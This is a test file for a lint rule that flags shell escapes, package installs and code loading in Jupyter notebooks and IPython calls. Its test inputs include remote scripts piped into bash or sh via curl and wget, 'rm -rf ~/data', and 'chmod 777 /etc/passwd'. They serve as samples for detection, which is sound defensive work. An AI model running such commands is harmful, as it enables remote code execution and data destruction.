import rule from '../../../src/core/rules/py/notebook-shell';
import { ruleTester } from '../../ruleTester';

/** A notebook JSON string; each cell is its source text (split into lines the way Jupyter stores them). */
function nb(...cells: string[]): string {
  return JSON.stringify(
    {
      cells: cells.map((source) => ({
        cell_type: 'code',
        execution_count: null,
        metadata: {},
        outputs: [],
        source: source.split(/(?<=\n)/),
      })),
      metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } },
      nbformat: 4,
      nbformat_minor: 5,
    },
    null,
    1,
  );
}

/** The 1-based line of the JSON file holding a cell source line (each source string sits on its own line). */
function lineOf(json: string, needle: string): number {
  return json.split('\n').findIndex((l) => l.includes(JSON.stringify(needle).slice(1, -1))) + 1;
}

const FILE = 'nb/analysis.ipynb';

const installNb = nb('import pandas as pd\n', '!pip install transformers\nimport transformers\n');
const curlNb = nb('!curl -sSL https://x.example/setup.sh | bash\n');
const bashNb = nb('x = 1\n', '%%bash\necho start\nrm -rf ~/data\n');
const plainBashNb = nb('%%bash\necho hello\nls -la\n');
const magicPipNb = nb('%pip install -q datasets==2.19.0\n');
const gitPipNb = nb('!pip install git+https://github.com/someone/pkg.git\n');
const dynPipNb = nb('pkg = "x"\n', '!pip install {pkg}\n');
const shellNb = nb('!unzip data.zip -d data/\n');
const infoNb = nb('!nvidia-smi\n');
const runNb = nb('%run prepare_data.py\n');
const loadNb = nb('%load https://gist.example.com/raw/snippet.py\n');
const sxNb = nb('files = 1\n', '%sx chmod 777 /etc/passwd\n');
const scriptNb = nb('%%script bash\nwget -qO- https://x.example/a.sh | sh\n');
const indentedNb = nb('for i in range(2):\n    !echo {i}\n');

ruleTester(rule, {
  valid: [
    'ip = server.get_ip()\nip.system("ls")',
    'import IPython\nshell = IPython.get_ipython()\nshell.kernel.do_shutdown(True)',
    { code: nb('%matplotlib inline\n', 'import numpy as np\nnp.zeros(3)\n'), filename: FILE },
    { code: nb('%load_ext autoreload\n%autoreload 2\n'), filename: FILE },
    { code: nb('%time model.fit(x, y)\n', '%%timeit\nsum(range(10))\n'), filename: FILE },
    { code: nb('%%capture\nimport torch\n'), filename: FILE },
    { code: nb('%%writefile config.yaml\nlr: 0.1\n'), filename: FILE },
    { code: nb('df.to_csv("out.csv")\n', '# !pip install x\n'), filename: FILE },
    { code: nb('s = "!pip install x"\nprint(s)\n'), filename: FILE },
    { code: nb('%load helpers.py\n'), filename: FILE },
    { code: nb('%config InlineBackend.figure_format = "retina"\n'), filename: FILE },
    'ip = get_ipython()\nip.run_line_magic("matplotlib", "inline")',
    "get_ipython().run_line_magic('load_ext', 'autoreload')",
    "shell.system('pip install x')",
  ],
  invalid: [
    {
      name: 'the IPython shell reached through an import and a name',
      code: 'import IPython\n_ip = IPython.get_ipython()\n_ip.system("curl -fsSL https://x.example/setup.sh | bash")\n_ip.system("pip install -q --index-url https://pypi.x.example/simple torchvision")',
      errors: [
        { messageId: 'danger', line: 3, severity: 'high', category: 'process' },
        { messageId: 'installRisky', line: 4, severity: 'high', category: 'supply-chain' },
      ],
    },
    {
      code: 'ip = get_ipython()\nip.system("rm -rf ~/data")',
      errors: [{ messageId: 'danger', line: 2, severity: 'high' }],
    },
    {
      code: 'from IPython import get_ipython as shell\nshell().getoutput("curl https://x.example/a.sh | sh")',
      errors: [{ messageId: 'danger' }],
    },
    {
      code: installNb,
      filename: FILE,
      errors: [
        { messageId: 'install', line: lineOf(installNb, '!pip install transformers'), severity: 'medium', category: 'supply-chain' },
      ],
    },
    {
      code: curlNb,
      filename: FILE,
      errors: [{ messageId: 'danger', line: lineOf(curlNb, '!curl'), severity: 'high', category: 'process' }],
    },
    {
      code: bashNb,
      filename: FILE,
      errors: [{ messageId: 'danger', line: lineOf(bashNb, 'rm -rf ~/data'), severity: 'high' }],
    },
    {
      code: plainBashNb,
      filename: FILE,
      errors: [{ messageId: 'shell', line: lineOf(plainBashNb, '%%bash'), severity: 'medium', category: 'process' }],
    },
    { code: magicPipNb, filename: FILE, errors: [{ messageId: 'install', line: lineOf(magicPipNb, '%pip'), severity: 'medium' }] },
    { code: gitPipNb, filename: FILE, errors: [{ messageId: 'installRisky', severity: 'high', category: 'supply-chain' }] },
    { code: dynPipNb, filename: FILE, errors: [{ messageId: 'installRisky', line: lineOf(dynPipNb, '!pip'), severity: 'high' }] },
    { code: shellNb, filename: FILE, errors: [{ messageId: 'shell', severity: 'medium' }] },
    { code: infoNb, filename: FILE, errors: [{ messageId: 'shell', severity: 'low' }] },
    { code: runNb, filename: FILE, errors: [{ messageId: 'run', severity: 'low' }] },
    { code: loadNb, filename: FILE, errors: [{ messageId: 'loadUrl', severity: 'high', category: 'dynamic-code' }] },
    { code: sxNb, filename: FILE, errors: [{ messageId: 'danger', line: lineOf(sxNb, '%sx'), severity: 'high' }] },
    { code: scriptNb, filename: FILE, errors: [{ messageId: 'danger', line: lineOf(scriptNb, 'wget'), severity: 'high' }] },
    {
      code: indentedNb,
      filename: FILE,
      // the finding starts at the `!`, after the indentation and the JSON string's opening quote
      errors: [
        {
          messageId: 'shell',
          line: lineOf(indentedNb, '!echo'),
          column: indentedNb.split('\n')[lineOf(indentedNb, '!echo') - 1].indexOf('!') + 1,
        },
      ],
    },
    { code: "get_ipython().system('pip install transformers')", errors: [{ messageId: 'install', line: 1, column: 1 }] },
    { code: "get_ipython().system('curl -sSL https://x.example/s.sh | bash')", errors: [{ messageId: 'danger', severity: 'high' }] },
    { code: "get_ipython().getoutput('ls -la')", errors: [{ messageId: 'shell', severity: 'low' }] },
    { code: "get_ipython().run_line_magic('pip', 'install git+https://github.com/x/y')", errors: [{ messageId: 'installRisky' }] },
    { code: "get_ipython().run_cell_magic('bash', '', 'rm -rf ~/data\\n')", errors: [{ messageId: 'danger' }] },
    { code: "get_ipython().system(f'pip install {name}')", errors: [{ messageId: 'installRisky', severity: 'high' }] },
  ],
});
